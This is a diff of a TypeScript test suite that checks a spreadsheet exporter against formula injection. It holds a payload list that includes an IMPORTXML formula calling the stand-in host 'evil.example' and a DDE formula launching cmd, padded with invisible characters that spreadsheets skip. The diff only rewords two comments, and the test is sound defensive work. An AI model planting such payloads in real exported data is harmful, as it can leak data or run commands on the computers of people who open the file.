@@ -16,7 +16,7 @@ const payloads = [
   'IMPORTXML("http://evil.example";"//a")',
   'DDE("cmd";"/C calc";"!A0")',
 ];
-/** What spreadsheets skip or cut off before they look at the sign. */
+/** Spreadsheets skip these before a formula sign. */
 const before = ['', ' ', '\t', '\r', '\n', '\r\n', '\0', '\ufeff', '\u200b', '\u00a0', ' \t '];
 const hostile = signs.flatMap((sign) =>
   payloads.flatMap((payload) => before.map((gap) => gap + sign + payload)),
@@ -74,7 +74,7 @@ describe('an exported text', () => {
     const bytes = new Uint8Array(await (await toXlsx(table)).arrayBuffer());
     const [sheet] = (await readXlsx(bytes, { readStyles: false })).sheets;
     const names = sheet?.rows.slice(1).map(([name]) => name ?? '');
-    // XML has one line break, so that a carriage return comes back as one.
+    // XML has one line break.
     const asXml = (text: string) => text.replace(/\r\n?/g, '\n');
     expect(names?.map((name) => asXml(String(name)))).toEqual(table.rows.map(({ name }) => asXml(name)));
     const formulas = [...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined);
